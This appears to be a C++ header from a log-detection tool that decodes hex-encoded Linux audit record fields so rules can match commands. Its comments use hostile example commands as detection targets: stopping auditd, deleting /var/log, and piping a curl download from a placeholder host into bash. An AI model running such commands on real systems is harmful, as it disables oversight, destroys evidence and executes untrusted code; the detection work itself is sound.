// Linux audit records write a value that holds a blank, a double quote, a
// control byte or a byte >= 0x7F as bare upper-case hex instead of a quoted
// string: the kernel (kernel/audit.c audit_log_n_untrustedstring after
// audit_string_contains_control: `*p == '"' || *p < 0x21 || *p > 0x7e`;
// kernel/auditsc.c audit_log_execve_info for EXECVE's `a%d=`,
// audit_log_proctitle for PROCTITLE; drivers/tty/tty_audit.c writes TTY
// `data=` with audit_log_n_hex always) and libaudit
// (linux-audit/audit-userspace lib/audit_logging.c
// audit_value_needs_encoding / audit_encode_value: sudo's USER_CMD `cmd=`
// and `cwd=`, `acct=`, `exe=`, `comm=`).
//
//   type=USER_CMD ... msg='cwd="/" cmd=73797374656D63746C2073746F7020617564697464 ...'
//   -> type=USER_CMD ... msg='cwd="/" cmd="systemctl stop auditd" ...'
//
// RuleSet::Match scans (and extracts from) the decoded copy when a line
// holds such a value, so one rule reads `systemctl stop auditd` however the
// record spelled it; the archive and the alert keep the bytes as received.
// An EXECVE record's copy also ends with its arguments joined,
// `cmdline="rm -rf /var/log"`, for the rules that mean a command line.
// Pure functions over bytes; thread-safe.
#ifndef KONSEKI_MATCHERS_AUDIT_HEX_H_
#define KONSEKI_MATCHERS_AUDIT_HEX_H_

#include <string>
#include <string_view>

namespace konseki::matchers {

// An audit record as a log host receives it: auditd's and its syslog
// plugin's "type=X msg=audit(...)", the kernel's printk "audit: type=N
// audit(...)", and journald's records under the identifier "audit"
// ("audit[PID]: USER_CMD pid=..."). RuleSet decodes only these lines.
// kAuditRecordTrigger is the Hyperscan expression (case-sensitive) of the
// text part, added to the rules' database so that other lines pay no
// extra pass (nothing measurable: bench/RESULTS.md, thirty-seventh
// session); IsAuditRecord says the same in C++ (tools, tests).
inline constexpr std::string_view kAuditRecordTrigger = R"((?:msg=audit\(| audit\([0-9]))";
inline constexpr std::string_view kAuditProgram = "audit";
// The program of the kernel's printk records ("audit: type=1309 ...").
inline constexpr std::string_view kKernelProgram = "kernel";
bool IsAuditRecord(std::string_view text, std::string_view app_name);

// A few comparisons at the start of text, cheap enough for every line: it
// begins as an EXECVE record does ("type=EXECVE " after an optional
// "node=NAME ", the journal's "EXECVE " under the identifier "audit", or
// the kernel's printk "audit: type=1309 " under "kernel", after imklog's
// optional "[ SECONDS] " stamp). RuleSet decodes these before its scan
// (one scan instead of two); other audit records are found by
// kAuditRecordTrigger.
bool StartsAsExecveRecord(std::string_view text, std::string_view app_name);

// Per-worker buffers of DecodeAuditRecord. Not thread-safe: one per worker
// (RuleSet::Scratch holds one). Reused message to message, so a warm worker
// does not allocate.
struct AuditBuffers {
  std::string text;     // the record as the rules read it (DecodeAuditRecord)
  std::string cmdline;  // EXECVE's arguments joined, before text takes them
};

// Writes into buffers->text the record as the rules read it and returns
// true; returns false, leaving the buffers unspecified, when it reads as
// received. Two rewrites:
//
// 1. Every hex-encoded audit value `KEY=HEX` reads `KEY="decoded"` (NUL,
//    the other control bytes and 0x7F as a blank, trailing blanks dropped,
//    an invalid UTF-8 byte as '?'). A value is decoded when
//    - KEY is one the kernel or libaudit encodes (acct, cmd, comm, cwd,
//      data, dir, exe, key, name, ocomm, path, proctitle, profile; `aN` and
//      `aN[i]` only in an EXECVE record, since a SYSCALL record's a0..a3
//      are bare hex numbers),
//    - it follows the start of text, a blank, ' or ", and runs to the end, a
//      blank, ' or the ENRICHED separator 0x1D,
//    - it is an even number (>= 4) of upper-case hex digits, and
//    - its bytes hold one that needs encoding (audit_value_needs_encoding;
//      always for TTY `data=`): otherwise the writer would have quoted it.
//
// 2. An EXECVE record (its type `type=EXECVE` / `type=1309` / the journal's
//    `EXECVE ` in its head, or an `argc=` before the arguments) ends with
//    ` cmdline="ARGS"`: its arguments in order, joined by one blank, each
//    as the program got it (a quoted one without its quotes, a hex one
//    decoded as above but its trailing blanks kept, the chunks `aN[0]`,
//    `aN[1]`... of a long one concatenated, `aN_len=` skipped; auparse's
//    interpreted form, a bare value, runs to the next ` aM=`). The kernel
//    writes them one field each (kernel/auditsc.c audit_log_execve_info:
//    "argc=%d", " a%d=", " a%d_len=%lu", " a%d[%d]=", each a quoted string
//    or audit_log_n_hex), so a command line ("curl -s http://x | bash")
//    cannot be read from the fields as one; `cmdline="` is always last, so
//    `\bcmdline="(?P<cmdline>[^\n]*)"$` reads it whatever quotes it holds.
//    A record the kernel split (an argument list longer than its buffer
//    goes on in another EXECVE record without argc=) holds its own part.
//
// buffers->text is never longer than 2 * text.size() + 11.
bool DecodeAuditRecord(std::string_view text, AuditBuffers* buffers);

}  // namespace konseki::matchers

#endif  // KONSEKI_MATCHERS_AUDIT_HEX_H_
